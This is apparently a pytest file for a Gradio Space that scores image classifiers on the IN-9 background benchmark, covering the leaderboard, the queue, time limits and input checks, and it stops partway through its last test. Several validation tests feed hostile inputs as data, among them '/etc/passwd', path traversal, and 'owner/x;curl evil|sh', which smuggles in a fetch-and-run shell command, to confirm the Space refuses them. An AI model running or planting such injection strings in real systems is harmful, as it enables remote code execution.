"""The Space is a thin shell: its scoring function checks what a visitor entered, returns
the library's report and keeps full runs on the leaderboard."""

from __future__ import annotations

import importlib.util
import inspect
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("gradio")

import gradio as gr  # noqa: E402

from hf_bgbench.benchmarks import get_benchmark  # noqa: E402
from hf_bgbench.space.jobs import clients, queueing, running  # noqa: E402
from hf_bgbench.space.jobs.finished_runs import FinishedRuns  # noqa: E402
from hf_bgbench.space.jobs.status import JobTimes  # noqa: E402
from hf_bgbench.space.page import tab_explore, tab_report, tab_score  # noqa: E402
from hf_bgbench.space.page.demo import build_demo  # noqa: E402
from hf_bgbench.space.settings import (  # noqa: E402
    CONCURRENCY,
    JOB_SECONDS,
    job_seconds,
    leaderboard_dir,
    takes_variants,
    task_options,
)
from hf_bgbench.space.views.leaderboard import read_rows, table  # noqa: E402
from hf_bgbench.space.views.samples import read_predictions  # noqa: E402


def _load_app():
    """spaces/app.py, run as the Space runs it (its demo built, not launched)."""
    path = Path(__file__).resolve().parents[1] / "spaces" / "app.py"
    spec = importlib.util.spec_from_file_location("bgbench_space_app", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _quiet(*args, **kwargs) -> None:
    return None


def _final(updates):
    """The last thing a Space generator yields (what the page shows when it ends)."""
    from collections import deque

    return (deque(updates, maxlen=1) or [None])[0]


SCORE_OUTPUTS = ("status", "report", "plots", "files", "samples", "extras", "button")


def _scored(*args, **kwargs) -> dict:
    return dict(zip(SCORE_OUTPUTS, _final(tab_score.score(*args, **kwargs)), strict=True))


def colour_rule_run(task, model_id, options):
    """What a job runs in these tests: the colour-rule classifier through the library."""
    from hf_bgbench.tasks.evaluate import evaluate_model
    from tests.in9_fixture import ColourRuleClassifier

    return evaluate_model(ColourRuleClassifier(), **options | {"use_cache": False})


_APPS: dict[str, Any] = {}


def _app_for(allow_list: str):
    """spaces/app.py loaded once for each allow-list, as a Space loads it once (about 0.5 s
    a load on 2 cores): building the page reads the allow-list; the callbacks read it, and
    the leaderboard folder, when called."""
    if allow_list not in _APPS:
        _APPS[allow_list] = _load_app()
    return _APPS[allow_list]


@pytest.fixture
def space(in9_release, tmp_path, monkeypatch):
    """The app with the synthetic IN-9 allow-listed as 'in9-local' and its own leaderboard."""
    allow_list = f"in9=bgbench/in9,in9-local={in9_release}"
    monkeypatch.setenv("BGBENCH_SPACE_DATASETS", allow_list)
    monkeypatch.setenv("BGBENCH_LEADERBOARD_DIR", str(tmp_path / "leaderboard"))
    return _app_for(allow_list)


@pytest.fixture(autouse=True)
def fresh_space(monkeypatch):
    """Each test's Space is a fresh process: no job time, no finished run to reuse."""
    monkeypatch.setattr(queueing, "JOB_TIMES", JobTimes())
    monkeypatch.setattr(running, "FINISHED", FinishedRuns())


def _job(monkeypatch, run, calls=None):
    """Jobs run ``run(task, model_id, options)`` in a thread of the test process."""
    from hf_bgbench.space.jobs.process import ThreadJob

    def job_for(task, model_id, options, command="", **how):
        if calls is not None:
            calls.append((task, model_id, options))
        return ThreadJob(run, (task, model_id, options), seconds=300)

    monkeypatch.setattr(running, "job_for", job_for)


def _colour_rule(monkeypatch, calls=None):
    _job(monkeypatch, colour_rule_run, calls)


def test_space_scores_with_the_library(space, in9_release, monkeypatch):
    from tests.in9_fixture import EXPECTED_BG_GAP, VARIANTS

    calls: list = []
    _colour_rule(monkeypatch, calls)
    # ticked out of order: the job gets them in the benchmark's order, as the grid shows them
    out = _scored(
        "tf_efficientnet_lite0",
        "in9-local",
        ["mixed_rand", "mixed_same"],
        False,
        progress=_quiet,
    )
    report, samples, extras = out["report"], out["samples"], out["extras"]
    assert "BG-GAP = 22.2 points" in report
    assert report.index("| mixed_same |") < report.index("| mixed_rand |")
    assert "<img " in out["plots"] and "accuracy.png" in out["plots"]
    files = {Path(f).name: Path(f) for f in out["files"]}
    assert {"results.json", "accuracy.png"} <= set(files)
    results = json.loads(files["results.json"].read_text())
    assert results["bg_gap"] == pytest.approx(EXPECTED_BG_GAP)
    # the downloaded results name no server path: the dataset by its allow-list name
    assert results["data"]["location"].startswith("in9-local")
    assert str(in9_release) not in files["results.json"].read_text()
    assert str(in9_release) not in report  # the server path is shown by its allow-list name
    assert "Done in" in out["status"] and out["button"]["interactive"] is True
    # two of the eight variants the dataset holds: not a full run, so not ranked
    assert "Not added to the leaderboard: it scored 2 of the 8 variants" in report
    ((task, model_id, options),) = calls
    assert options["variants"] == ["mixed_same", "mixed_rand"]
    assert options["data"] == str(in9_release) and "checkpoint" not in options
    # a grid of six images per variant, captioned with the run's predictions
    captions = re.findall(r'<img [^>]*alt="([^"]+)"', samples)
    assert samples.count("<img ") == 12 and samples.count("<tr>") == 3  # header + 2 variants
    assert [c.split(":")[0] for c in captions] == ["mixed_same"] * 6 + ["mixed_rand"] * 6
    assert all(re.fullmatch(r"\w+: (✓ [\w ]+|✗ [\w ]+ \(true \w+\))", c) for c in captions)
    # the gallery shows what the run recorded for those images
    predictions = read_predictions(Path(out["files"][0]).parents[1] / "predictions")
    classes = get_benchmark("in9").classes
    recorded = {
        (v, classes[p] if p >= 0 else "none of IN-9's classes", classes[y])
        for v, t in predictions.items()
        for p, y in zip(t["pred"], t["label"], strict=True)
    }
    for caption in captions:
        variant, rest = caption.split(": ", 1)
        predicted = rest[2:].split(" (true ")[0]
        truth = rest.split("(true ")[1][:-1] if "(true " in rest else predicted
        assert (variant, predicted, truth) in recorded, caption
    # the paste-ready LaTeX row and model-index sit apart from the report
    assert "model-index" in extras and "```latex" in extras and "model-index" not in report
    # ... and the model-index names the data scored, never the benchmark's Hub dataset
    assert "bgbench/in9" not in extras
    assert f"local-{results['data']['fingerprint']}" in extras and "18 images" in extras

    # every variant the dataset holds: a full run, ranked
    out = _scored("tf_efficientnet_lite0", "in9-local", list(VARIANTS), False, progress=_quiet)
    assert "Added to the leaderboard" in out["report"]
    headers, rows = table(
        read_rows(leaderboard_dir()), benchmark="in9", task="evaluate", published=False
    )
    (row,) = [dict(zip(headers, r, strict=True)) for r in rows]
    assert row["BG-GAP (pts)"].startswith("22.2 [")


def test_the_first_update_comes_before_any_work(space, monkeypatch):
    """The status shows the stage from the first moment, and the Score button says it works."""
    _colour_rule(monkeypatch)
    updates = tab_score.score(
        "tf_efficientnet_lite0", "in9-local", ["original"], False, progress=_quiet
    )
    first = dict(zip(SCORE_OUTPUTS, next(updates), strict=True))
    assert "checking the model and the dataset" in first["status"]
    assert first["button"]["interactive"] is False and first["button"]["value"] == "Scoring…"
    assert first["report"] == "" and first["plots"] == ""  # the last run's report is cleared
    updates.close()


def slow_job(task, model_id, options):
    """A job that reports progress, then would run for a long while."""
    import time

    from tqdm.auto import tqdm

    bar = tqdm(total=100, desc="in9/original")
    for _ in range(100):
        time.sleep(0.6)
        bar.update(1)
    return {}


def test_a_job_that_cannot_finish_in_time_is_stopped_early(space, monkeypatch):
    """A job whose pace (0.6 s an image, 100 images: a minute) cannot fit a 20-s limit: once
    its step has run long enough to trust the pace, it is stopped, saying so and what the
    visitor can change -- not left to run into the limit."""
    import threading

    from tqdm.auto import tqdm

    from hf_bgbench.space.jobs.process import ThreadJob

    done = threading.Event()  # a thread cannot be killed: it is told to end with the test,
    # or it would go on reporting progress into the next test's job

    def slow(task, model_id, options):
        bar = tqdm(total=100, desc="in9/original")
        for _ in range(100):
            if done.wait(0.6):
                return {}
            bar.update(1)
        return {}

    def job_for(task, model_id, options, command="", **how):
        return ThreadJob(slow, (task, model_id, options), seconds=20, hint=f"Try less. {command}")

    monkeypatch.setattr(running, "job_for", job_for)
    monkeypatch.setattr(running, "SETTLE_SECONDS", 2)
    seen = []
    try:
        with pytest.raises(gr.Error) as info:
            for out in tab_score.score(
                "tf_efficientnet_lite0", "in9-local", ["original"], False, progress=_quiet
            ):
                seen.append(out[0])
    finally:
        done.set()
    message = info.value.message
    assert message.startswith("The job was stopped early: at its pace so far, its step ")
    assert "in9/original alone needs about" in message and "could not finish" in message
    # and the command that runs it where no time limit applies, with the Space's caps
    command = "bgbench evaluate tf_efficientnet_lite0 --benchmark in9 --data in9-local"
    assert f"Try less. {command}" in message
    assert "--variants original" in message and seen[-1] == f"**Stopped:** {message}"
    assert "took longer than" not in message  # not the time limit's message


@pytest.fixture
def process_jobs(space, monkeypatch, tmp_path_factory):
    """The app for tests whose jobs run in processes: one leaderboard folder for all of them
    (their jobs never reach it), so that with the same variables their jobs fork from one
    job server -- a changed variable restarts it, about 10 CPU-seconds on 2 cores."""
    monkeypatch.setenv("BGBENCH_LEADERBOARD_DIR", str(tmp_path_factory.getbasetemp() / "jobs"))
    return space


def test_a_visitor_who_leaves_stops_the_job(process_jobs, monkeypatch):
    """Gradio closes a job's generator when its visitor leaves (or presses Stop): the job's
    process is killed at once."""
    from hf_bgbench.space.jobs.process import Job

    started: list = []

    def job_for(task, model_id, options, command="", **how):
        started.append(Job(slow_job, (task, model_id, options), seconds=300))
        return started[-1]

    monkeypatch.setattr(running, "job_for", job_for)
    updates = tab_score.score(
        "tf_efficientnet_lite0", "in9-local", ["original"], False, progress=_quiet
    )
    statuses = []
    for out in updates:
        statuses.append(out[0])
        if "in9/original" in out[0]:
            break
    assert "in9/original —" in statuses[-1]
    (job,) = started
    assert job._proc.is_alive()
    updates.close()  # what Gradio does when the page's event stream drops
    assert not job._proc.is_alive()


def test_a_client_that_reads_no_update_loses_its_job(process_jobs, monkeypatch):
    """A client that never reads its updates (queued by a script, page gone) is stopped."""
    from hf_bgbench.space.jobs.process import Job

    started: list = []

    def job_for(task, model_id, options, command="", **how):
        started.append(Job(slow_job, (task, model_id, options), seconds=300))
        return started[-1]

    monkeypatch.setattr(running, "job_for", job_for)
    monkeypatch.setattr(clients, "listening", lambda request: False)
    monkeypatch.setattr(clients, "UNREAD_SECONDS", 2)
    outputs = list(
        tab_score.score("tf_efficientnet_lite0", "in9-local", ["original"], False, progress=_quiet)
    )
    (job,) = started
    assert not job._proc.is_alive()
    assert len(outputs) < 20  # stopped after about two seconds, not at the job's end


def test_space_reports_errors_to_the_user(space):
    """A job that cannot go on says so in its tab's status line, and its error (what an API
    caller gets) shows no toast: on a phone one covered the other tabs' names."""
    import gradio as gr

    shown = []
    with pytest.raises(gr.Error, match="Pick at least one variant") as info:
        for update in tab_score.score("tf_efficientnet_lite0", "in9-local", [], False):
            shown.append(update[0])
    assert shown[-1].startswith("**Stopped:** Pick at least one variant")
    assert info.value.visible is False
    assert isinstance(build_demo(), gr.Blocks)


@pytest.mark.parametrize(
    ("model", "dataset", "said"),
    [
        ("/etc/passwd", "in9-local", "paths and links are refused"),
        ("local-dir:/srv/x", "in9-local", "paths and links are refused"),
        ("../../x", "in9-local", "paths and links are refused"),
        ("owner/x;curl evil|sh", "in9-local", "only letters, digits"),
        ("owner/weights.ckpt", "in9-local", "weights file"),
        ("tf_efficientnet_lite0", "/etc", "Pick a dataset from the list"),
        ("tf_efficientnet_lite0", "../tests", "Pick a dataset from the list"),
        ("tf_efficientnet_lite0", "bgbench/other", "Pick a dataset from the list"),
    ],
)
def test_space_refuses_paths_before_anything_loads(space, monkeypatch, model, dataset, said):
    import gradio as gr

    def never(*args, **kwargs):
        raise AssertionError("nothing may load for a refused input")

    monkeypatch.setattr(running, "job_for", never)
    updates = tab_score.score(model, dataset, ["original"], False, progress=_quiet)
    with pytest.raises(gr.Error, match="(?s)" + said.replace("(", r"\(")):
        _final(updates)


def test_the_space_never_passes_a_checkpoint_or_remote_code(space):
    assert "checkpoint" not in inspect.signature(tab_score.score).parameters
    for task in ("evaluate", "challenge", "noise", "saliency"):
        options = task_options(task, ["original"], False)
        assert not {"checkpoint", "label_map", "trust_remote_code"} & set(options)
    challenge = task_options("challenge", [], False)
    assert challenge["max_foregrounds"] == 50 and challenge["max_backgrounds"] == 200


def test_the_operator_may_fix_each_jobs_decode_workers(space, monkeypatch):
    """BGBENCH_SPACE_WORKERS reaches every task as --workers; unset, the run chooses."""
    from hf_bgbench.space import settings

    assert "num_workers" not in task_options("noise", [], False)
    monkeypatch.setattr(settings, "WORKERS", 2)
    for task in ("evaluate", "noise", "challenge"):
        assert task_options(task, ["original"], False)["num_workers"] == 2


def test_the_space_controls_come_from_the_task_options(space, monkeypatch):
    """Variants go to the tasks that take them; each option a task caps on shared hardware
    (Option.space_cap) gets the operator's cap, 0 meaning all."""
    assert takes_variants("evaluate") and not takes_variants("noise")
    assert task_options("evaluate", ["original"], True) == {
        "restrict_to_benchmark": True,
        "progress": True,
        "variants": ["original"],
        "max_images": 25_000,  # the job's image budget, all of it for the one variant
    }
    monkeypatch.setenv("BGBENCH_SPACE_MAX_IMAGES", "7")
    monkeypatch.setenv("BGBENCH_SPACE_NOISE_IMAGES", "5")  # noise: ~141 passes an image
    assert task_options("saliency", ["original"], False)["max_images"] == 7
    assert task_options("noise", ["original"], False)["max_images"] == 5
    monkeypatch.setenv("BGBENCH_SPACE_FOREGROUNDS", "0")
    assert task_options("challenge", [], False)["max_foregrounds"] is None


def failing_run(task, model_id, options):
    raise ValueError(
        f"{options['data']} has no variant 'mixed_next'. Pass another folder with --data, "
        "or run `bgbench download in9`."
    )


def test_library_errors_reach_the_visitor_in_plain_words(space, in9_release, monkeypatch):
    import gradio as gr

    _job(monkeypatch, failing_run)
    seen = []
    with pytest.raises(gr.Error) as info:
        for out in tab_score.score(
            "tf_efficientnet_lite0", "in9-local", ["mixed_next"], False, progress=_quiet
        ):
            seen.append(out)
    message = info.value.message
    # the status says it stopped, and the Score button works again
    assert seen[-1][0] == f"**Stopped:** {message}" and seen[-1][-1]["interactive"] is True
    assert message.startswith("in9-local has no variant")
    assert "--data" not in message and "bgbench download" not in message
    assert str(in9_release) not in message and message.endswith(".")


def capped_run(task, model_id, options):
    return colour_rule_run(task, model_id, options) | {"max_images": 5}


def test_subset_runs_are_not_ranked(space, monkeypatch):
    from tests.in9_fixture import VARIANTS

    _job(monkeypatch, capped_run)
    out = _scored("tf_efficientnet_lite0", "in9-local", list(VARIANTS), False, progress=_quiet)
    assert "Not added to the leaderboard: it scored a seeded subset (max_images=5)" in out["report"]
    assert read_rows(leaderboard_dir()) == []


def colour_rule_task(task, model_id, options):
    """Any task of the Space with the colour-rule classifier, through the library."""
    from hf_bgbench.tasks import run_task
    from tests.in9_fixture import ColourRuleClassifier

    return run_task(task, ColourRuleClassifier(), **options | {"num_workers": 0})


@pytest.mark.parametrize(("cap", "said"), [("100", False), ("5", True)])
def test_a_challenge_says_subset_only_when_images_were_left_out(space, monkeypatch, cap, said):
    """The Space caps the challenge at 100 foregrounds: on a dataset of 18, every image is
    used, and the report does not call it a subset; a cap of 5 draws one, said plainly."""
    monkeypatch.setenv("BGBENCH_SPACE_FOREGROUNDS", cap)
    _job(monkeypatch, colour_rule_task)
    out = _scored(
        "tf_efficientnet_lite0", "in9-local", [], False, task="challenge", progress=_quiet
    )
    assert ("random subset (max_foregrounds=5, seed 0)" in out["report"]) is said
    assert "max_backgrounds=200" not in out["report"]  # 18 backgrounds, all used
    assert ("Added to the leaderboard" in out["report"]) is not said


def test_jobs_have_their_own_concurrency_groups_and_page_events_skip_the_queue(space):
    demo = build_demo()
    assert demo._queue.default_concurrency_limit == CONCURRENCY == 1
    assert JOB_SECONDS > 0
    by_name = {fn.name: fn for fn in demo.fns.values()}
    assert by_name["score"].concurrency_id == queueing.JOB_GROUP
    assert by_name["explore"].concurrency_id == queueing.EXPLORE_GROUP
    assert by_name["score"].concurrency_limit == by_name["explore"].concurrency_limit == 1
    assert by_name["score"].validator is not None and by_name["explore"].validator is not None
    # the report card is a scoring job: same group, same per-client limit
    assert by_name["report_card"].concurrency_id == queueing.JOB_GROUP
    assert by_name["report_card"].validator is not None
    # so are a comparison and the flips (each may score a model)
    for name in ("compare_models", "flips"):
        assert by_name[name].concurrency_id == queueing.JOB_GROUP, name
        assert by_name[name].validator is not None, name
    # page loads, dropdowns, the leaderboard and Stop never wait behind a job
    job_fns = ("score", "explore", "report_card", "compare_models", "flips")
    for fn in demo.fns.values():
        if fn.name not in job_fns:
            assert fn.queue is False, fn.name
    # Stop cancels the scoring job (Gradio closes its generator, which kills the process)
    cancelling = [fn for fn in demo.fns.values() if getattr(fn, "is_cancel_function", False)]
    assert [by_name["score"]._id] in [list(fn.cancels) for fn in cancelling]
    assert [by_name["report_card"]._id] in [list(fn.cancels) for fn in cancelling]
    assert [by_name["compare_models"]._id] in [list(fn.cancels) for fn in cancelling]


class _Headers(dict):
    """Request headers as Starlette keeps them: a header may come more than once."""

    def __init__(self, pairs):
        super().__init__(pairs)
        self.pairs = pairs

    def getlist(self, name):
        return [v for k, v in self.pairs if k == name]


def _request(host, *forwarded):
    from types import SimpleNamespace

    headers = _Headers([("x-forwarded-for", f) for f in forwarded])
    return SimpleNamespace(headers=headers, client=SimpleNamespace(host=host))


def test_a_client_cannot_forge_its_key(space, monkeypatch):
    """The one-job-per-client limit keys on what the client cannot write: without a trusted
    proxy the connection's address (X-Forwarded-For unread); behind one, the entry it
    appended -- whatever the client put before it."""
    monkeypatch.setattr(clients, "TRUSTED_PROXIES", 0)
    assert clients.client_key(_request("10.1.1.1", "6.6.6.6")) == "10.1.1.1"
    assert clients.client_key(_request("10.1.1.1", "7.7.7.7")) == "10.1.1.1"
    monkeypatch.setattr(clients, "TRUSTED_PROXIES", 1)
    forged = [_request("10.0.0.9", f"{fake}, 203.0.113.5") for fake in ("6.6.6.6", "7.7.7.7")]
    assert {clients.client_key(r) for r in forged} == {"203.0.113.5"}
    assert clients.client_key(_request("10.0.0.9", "6.6.6.6", "203.0.113.5")) == "203.0.113.5"
    assert clients.client_key(_request("10.0.0.9")) == "10.0.0.9"
    # uvicorn's own reading of the header (it trusts 127.0.0.1 by default) is off
    assert os.environ["FORWARDED_ALLOW_IPS"] == ""


@pytest.mark.parametrize("model", ["/etc/passwd", "https://evil/x", "owner/x;curl evil|sh"])
def test_a_refused_model_id_is_refused_before_queuing(space, model):
    """Every job button's validator -- which Gradio runs before it queues the job, so the
    visitor never waits behind the queue to hear it -- refuses a model id the checks refuse,
    and the click's status line (outside the queue) says why at once."""
    from hf_bgbench.space.checks.model_id import MODEL_HINT

    checks = {
        "score": tab_score.one_score_per_client(
            model, "in9-local", ["original"], False, "in9", "x"
        ),
        "explore": tab_explore.one_explore_per_client(model, "in9-local", "in9", "x"),
        "report": tab_report.one_report_per_client(model),
    }
    for name, check in checks.items():
        first = check[0] if isinstance(check, list) else check  # one input: the dict itself
        assert first["is_valid"] is False, name
        assert first["message"].endswith(MODEL_HINT), name
    assert queueing.click_status(model, queueing.JOB_GROUP, None).startswith("**Stopped:** ")
    fine = tab_score.one_score_per_client(
        "timm/resnet50.a1_in1k", "in9-local", [], False, "in9", "x"
    )
    assert all(v["is_valid"] for v in fine)
    assert queueing.click_status("timm/resnet50.a1_in1k", queueing.JOB_GROUP, None) == gr.skip()
    with pytest.raises(gr.Error, match="paths and links|only letters"):
        queueing.model_gate(model)
    queueing.model_gate("timm/resnet50.a1_in1k")
    # on the page, each job's button first checks the id outside the queue; the job is
    # queued only when that succeeded
    demo = build_demo()
    by_fn: dict = {}
    for fn in demo.fns.values():
        by_fn.setdefault(fn.name, []).append(fn)
    # five job buttons: score, explore, the flip explorer, the report card and compare (whose
    # gate checks both of its models)
    gate_fns = by_fn["model_gate"] + by_fn["gate"]
    assert len(by_fn["status_at_click"]) == len(gate_fns) == 5
    assert all(fn.queue is False for fn in by_fn["status_at_click"] + gate_fns)
    gates = {fn._id for fn in gate_fns}
    config = demo.get_config_file()["dependencies"]
    for name in ("score", "explore", "flips", "report_card", "compare_models"):
        (dep,) = [d for d in config if d["id"] == by_fn[name][0]._id]
        assert dep["trigger_after"] in gates and dep["trigger_only_on_success"], name
    # Explore: a click while an image is scored is kept and runs after it (gradio's default
    # drops it, leaving the picker and the result on different images); the others once
    mode = {
        name: next(d for d in config if d["id"] == by_fn[name][0]._id)["trigger_after"]
        for name in ("score", "explore")
    }
    modes = {d["id"]: d["trigger_mode"] for d in config}
    assert modes[mode["explore"]] == "always_last" and modes[mode["score"]] == "once"


@pytest.mark.parametrize("model", ["../x", "https://h/x"])
def test_every_validator_refuses_through_gradio_as_it_is_called(space, model):
    """Each job button's validator, its value passed through Gradio's own post-processing
    and reading of a validation (a one-input validator's list was wrapped in another list
    and read as valid: the report card queued "../x" and any number of cards per client)."""
    import asyncio

    from gradio.queueing import create_validator_fn, process_validation_response

    demo = build_demo()
    validated = [fn for fn in demo.fns.values() if fn.validator is not None]
    assert {fn.name for fn in validated} >= {"report_card", "score", "explore"}
    for fn in validated:
        check = create_validator_fn(fn)
        value = fn.validator(model, *[None] * (len(fn.inputs) - 1))
        data = asyncio.run(demo.postprocess_data(check, value, None))
        valid, said = process_validation_response(data, check)
        assert valid is False, fn.name
        assert any("paths and links" in x.get("message", "") for x in said), fn.name


def test_a_queued_visitor_is_told_their_place_and_an_estimate(space, monkeypatch):
    """At the click, a visitor whose job must wait is told their place in line and an
    estimate from this Space's own finished jobs (none until one has finished); one whose
    job cannot be queued is told why, in the status line."""
    from types import SimpleNamespace

    monkeypatch.setattr(queueing, "JOB_TIMES", JobTimes())
    job = SimpleNamespace(concurrency_id=queueing.JOB_GROUP, alive=True, request=None)
    queue = SimpleNamespace(
        event_queue_per_concurrency_id={queueing.JOB_GROUP: SimpleNamespace(queue=[job, job])},
        active_jobs=[[job]],
    )
    monkeypatch.setattr(clients, "_queue", lambda: queue)
    said = queueing.click_status("timm/resnet50.a1_in1k", queueing.JOB_GROUP, None)
    assert said.startswith("**Queued:** your job is number 3 in line, behind 1 running and 2")
    assert "No estimate yet: no job has finished since this Space started" in said
    for seconds in (100, 140, 120):
        queueing.JOB_TIMES.add(seconds)
    said = queueing.click_status("timm/resnet50.a1_in1k", queueing.JOB_GROUP, None)
    # three jobs ahead, 2 min each at the median of this Space's last three
    assert "start in about 6 min 00 s (this Space's last 3 jobs took 2 min 00 s" in said
    monkeypatch.setattr(queueing, "QUEUE_SIZE", 2)
    said = queueing.click_status("timm/resnet50.a1_in1k", queueing.JOB_GROUP, None)
    assert said.startswith("**Not queued:** the queue is full (2 jobs waiting)")
    monkeypatch.setattr(queueing, "jobs_of", lambda key, group: 1)
    said = queueing.click_status("timm/resnet50.a1_in1k", queueing.JOB_GROUP, None)
    assert said.startswith("**Not queued:** you already have a job waiting or running")
    # a free slot: nothing to say, the job's own first update follows at once
    queue.event_queue_per_concurrency_id[queueing.JOB_GROUP].queue = []
    queue.active_jobs = []
    monkeypatch.setattr(queueing, "jobs_of", lambda key, group: 0)
    assert queueing.click_status("timm/resnet50.a1_in1k", queueing.JOB_GROUP, None) == gr.skip()


def test_a_queued_visitors_line_is_redrawn_with_the_running_jobs_time(space, monkeypatch):
    """While a visitor's job waits, its line is redrawn: its place among the waiting jobs (by
    its own session), how long the running job has run, and an estimate that counts it; once
    its job has left the queue the redraw stops (None) and the job's own updates speak."""
    from types import SimpleNamespace

    now = [1000.0]
    times = JobTimes(clock=lambda: now[0])
    monkeypatch.setattr(queueing, "JOB_TIMES", times)
    for seconds in (100, 140, 120):
        times.add(seconds)
    token = times.started()  # the running job
    now[0] += 90

    def event(session: str) -> SimpleNamespace:
        return SimpleNamespace(concurrency_id=queueing.JOB_GROUP, alive=True, session_hash=session)

    queue = SimpleNamespace(
        event_queue_per_concurrency_id={
            queueing.JOB_GROUP: SimpleNamespace(queue=[event("other"), event("me")])
        },
        active_jobs=[[event("runner")]],
    )
    monkeypatch.setattr(clients, "_queue", lambda: queue)
    said = queueing.waiting_status(queueing.JOB_GROUP, SimpleNamespace(session_hash="me"))
    assert said.startswith("**Queued:** your job is number 2 in line, behind 1 running and 1")
    assert "The running job has run 1 min 30 s." in said
    # the running job ends in about 30 s, the one ahead of me takes 2 min after it
    assert "It should start in about 2 min 30 s" in said
    assert "refreshed every 5 s" in said
    now[0] += 60  # past the median: the running job is taken to end now
    said = queueing.waiting_status(queueing.JOB_GROUP, SimpleNamespace(session_hash="me"))
    assert "has run 2 min 30 s" in said and "start in about 2 min 00 s" in said
    queue.event_queue_per_concurrency_id[queueing.JOB_GROUP].queue = [event("me")]
    said = queueing.waiting_status(queueing.JOB_GROUP, SimpleNamespace(session_hash="me"))
    assert said.startswith("**Queued:** your job is number 1 in line, behind 1 running job.")
    assert "It should start when the running job ends (it has run longer than usual; a" in said
    times.ended(token)
    queue.event_queue_per_concurrency_id[queueing.JOB_GROUP].queue = []
    assert queueing.waiting_status(queueing.JOB_GROUP, SimpleNamespace(session_hash="me")) is None


@pytest.mark.parametrize(
    "running_for, ahead, slots, expected",
    [
        ([], 0, 1, 0.0),  # a free slot
        ([30.0], 0, 1, 90.0),  # the running job's remaining time
        ([30.0], 2, 1, 330.0),  # then two whole jobs
        ([30.0, 100.0], 1, 2, 90.0),  # two slots: the one ahead takes the first freed (20 s)
        ([500.0], 1, 1, 120.0),  # a job past the median ends "now"
    ],
)
def test_the_wait_counts_the_running_jobs_and_the_slots(running_for, ahead, slots, expected):
    from hf_bgbench.space.jobs.status import wait_estimate

    assert wait_estimate(running_for, ahead, 120.0, slots) == pytest.approx(expected)


def test_a_queued_job_notes_its_start_and_end(space, monkeypatch):
    """The queued job's wrapper notes when it runs (for the estimate) and forgets it when it
    ends, stopped or not; Gradio still sees the job's own parameters."""
    import inspect

    times = JobTimes()
    monkeypatch.setattr(queueing, "JOB_TIMES", times)

    def job(model: str, request: gr.Request = None):  # type: ignore[assignment]
        yield f"running {model}"
        yield "done"

    wrapped = queueing.timed(job)
    assert list(inspect.signature(wrapped).parameters) == ["model", "request"]
    steps = wrapped("m")
    assert next(steps) == "running m" and len(times.starts) == 1
    steps.close()  # Stop: Gradio closes the generator
    assert times.starts == {}
    assert list(queueing.timed(job)("m")) == ["running m", "done"] and times.starts == {}


def test_the_label_map_reaches_the_task_and_its_command(space, monkeypatch):
    """The Score tab's label map is the task's --label-map: passed to the job (unless auto,
    the published protocol), in the reproduce command, and a value the page does not offer
    (an API caller's) is refused before anything runs."""
    calls: list = []
    _colour_rule(monkeypatch, calls)

    def scored(label_map: str) -> dict:
        picked = ("tf_efficientnet_lite0", "in9-local", ["original"], False, "in9", "evaluate")
        return _scored(*picked, label_map, progress=_quiet)

    out = scored("model")
    ((_, _, options),) = calls
    assert options["label_map"] == "model"
    assert "--label-map model" in out["report"]
    scored("auto")
    assert "label_map" not in calls[-1][2]
    with pytest.raises(gr.Error, match="Pick a label map among auto, model, imagenet, probe"):
        scored("../labels.json")
    assert len(calls) == 2


def test_a_protocol_that_trains_a_head_is_told_the_label_map_that_needs_none():
    """RIVAL10's published protocol trains a linear head for every new model (about 1 h 30
    min on 2 vCPU): its time-limit hint names the label map that needs no training."""
    trains = running.time_limit_hint("evaluate", {"benchmark": "rival10"})
    assert "the label map 'imagenet' scores a 1000-class model through its own classes" in trains
    for options in ({"benchmark": "rival10", "label_map": "imagenet"}, {"benchmark": "in9"}, {}):
        assert "label map" not in running.time_limit_hint("evaluate", options), options


def test_time_limits_fit_the_task(space, monkeypatch):
    monkeypatch.setenv("BGBENCH_SPACE_JOB_SECONDS_NOISE", "3000")
    assert job_seconds("noise") == 3000 and job_seconds("evaluate") == JOB_SECONDS
    assert "fewer variants" in running.time_limit_hint("evaluate")
    job = running.job_for("noise", "m/n", {"benchmark": "in9"}, "bgbench noise m/n")
    assert job.hint == (
        "Try a smaller model. Or run it on your own machine, where no time limit applies: "
        "`bgbench noise m/n`"
    )
    assert "variants" not in running.time_limit_hint("noise")
    # the bundled model is the smallest: no "smaller model" for it, and where the tab offers
    # nothing else to change, the command alone
    assert running.time_limit_hint("noise", {}, "tf_efficientnet_lite0") == ""
    job = running.job_for("noise", "tf_efficientnet_lite0", {"benchmark": "in9"}, "bgbench noise x")
    assert job.hint == "Run it on your own machine, where no time limit applies: `bgbench noise x`"
    assert running.time_limit_hint("evaluate", {}, "tf_efficientnet_lite0") == "Try fewer variants."
    # Compare offers no variants: none are suggested
    offered = running.time_limit_hint("evaluate", {}, "m/n", variants_offered=False)
    assert offered == "Try a smaller model."


def test_old_run_folders_are_deleted_so_a_long_lived_space_keeps_its_disk():
    from hf_bgbench.space.settings import run_output_dir

    runs = []
    for _ in range(5):
        runs.append(run_output_dir(keep=3))
        (runs[-1] / "results.json").write_text("{}")  # what a job leaves behind
    assert [r.is_dir() for r in runs] == [False, False, True, True, True]
    assert len({r.parent for r in runs}) == 1  # one folder per app process
    assert runs[0].parent.name.startswith("bgbench-space-")


def test_progress_of_the_job_reaches_the_page(space, monkeypatch):
    shown = []
    _colour_rule(monkeypatch)
    outputs = list(
        tab_score.score(
            "tf_efficientnet_lite0",
            "in9-local",
            ["original", "mixed_rand"],
            False,
            progress=lambda value, desc=None, **kw: shown.append((value, desc)),
        )
    )
    assert ((18, 18), "in9/original") in shown and ((18, 18), "in9/mixed_rand") in shown
    statuses = [out[0] for out in outputs]
    assert any("in9/original" in s and "18/18" in s for s in statuses), statuses
    assert all("since the start" in s for s in statuses[:-1])
    assert task_options("evaluate", ["original"], False)["progress"] is True


CLIP_WRITERS = {"open_clip": "write_open_clip", "transformers": "write_transformers_clip"}


@pytest.mark.parametrize("library", list(CLIP_WRITERS))
def test_a_clip_hub_model_is_scored_and_its_text_step_shown(space, tmp_path, monkeypatch, library):
    """A CLIP-family Hub repo (tiny, in the local Hub cache, the Hub off) passes the Space's
    checks and is scored zero-shot by the Space's own job function, the visitor seeing the
    text step (its class prompts through the text tower) in the status and the progress bar
    before the images are scored."""
    import open_clip
    from huggingface_hub import constants

    from tests import clip_fixtures

    folder = getattr(clip_fixtures, CLIP_WRITERS[library])(tmp_path / "model")
    cache = tmp_path / "hub"
